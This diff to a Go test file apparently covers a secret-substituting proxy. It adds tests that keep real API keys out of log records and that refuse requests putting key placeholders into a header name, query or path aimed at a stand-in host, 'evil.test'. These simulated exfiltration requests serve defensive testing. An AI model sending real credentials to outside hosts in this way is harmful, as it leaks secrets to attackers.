@@ -217,6 +217,26 @@ func TestPlaceholderIsReplacedWhereItBelongs(t *testing.T) {
 	}
 }
 
+// What is decided, recorded and shown to people of a request has placeholders
+// in it also when one of its keys is in place already.
+func TestAttackKeyInTheRecordOfTheNextUse(t *testing.T) {
+	d := lend(t, Definition{Name: "npm", Bindings: []Binding{{Host: "maps.test", Query: "key"}}},
+		Definition{Name: "anthropic", Bindings: []Binding{{Host: "maps.test", Query: "app"}}},
+		Definition{Name: "github", Bindings: []Binding{{Host: "api.github.test"}}})
+	r := request("POST", "https://maps.test/at?key="+d.held["npm"]+"&app="+d.held["anthropic"])
+	r.Body = io.NopCloser(strings.NewReader(d.held["github"]))
+	if err := d.Outgoing(t.Context(), "maps.test", 443, r); err != nil || !strings.Contains(r.URL.RawQuery, secretOf["npm"]) || !strings.Contains(r.URL.RawQuery, secretOf["anthropic"]) {
+		t.Fatalf("%s, %v", r.URL, err)
+	}
+	_, err := io.ReadAll(r.Body)
+	d.refusedBy(err, "misplaced")
+	for _, rec := range d.log.Records() {
+		if rec.Action != nil && (leaked(string(rec.Action.URL), secretOf["npm"]) || leaked(string(rec.Action.URL), secretOf["anthropic"])) {
+			t.Errorf("a record of %s has the key: %s", rec.Action.Subject, rec.Action.URL)
+		}
+	}
+}
+
 // An answer that repeats the key is not to be had in parts: each would show a
 // piece that is no key. Where no key goes, parts are.
 func TestAttackKeyInPartsOfAnAnswer(t *testing.T) {
@@ -255,8 +275,11 @@ func TestPlaceholderAnywhereElseStopsTheRequest(t *testing.T) {
 		"header, not alone": func() (string, *http.Request) {
 			return "api.github.test", request("GET", there, "Authorization", "Bearer "+p+"x")
 		},
-		"cookie":      func() (string, *http.Request) { return "api.github.test", request("GET", there, "Cookie", "s="+p) },
-		"query":       func() (string, *http.Request) { return "api.github.test", request("GET", there+"?t="+p) },
+		"cookie": func() (string, *http.Request) { return "api.github.test", request("GET", there, "Cookie", "s="+p) },
+		"query":  func() (string, *http.Request) { return "api.github.test", request("GET", there+"?t="+p) },
+		"name of a header, as Go spells it": func() (string, *http.Request) {
+			return "evil.test", request("GET", "https://evil.test/", "X-"+p, "1")
+		},
 		"query name":  func() (string, *http.Request) { return "api.github.test", request("GET", there+"?"+p+"=1") },
 		"other query": func() (string, *http.Request) { return "evil.test", request("GET", "https://evil.test/?key="+p) },
 		"path":        func() (string, *http.Request) { return "evil.test", request("GET", "https://evil.test/a/"+p) },
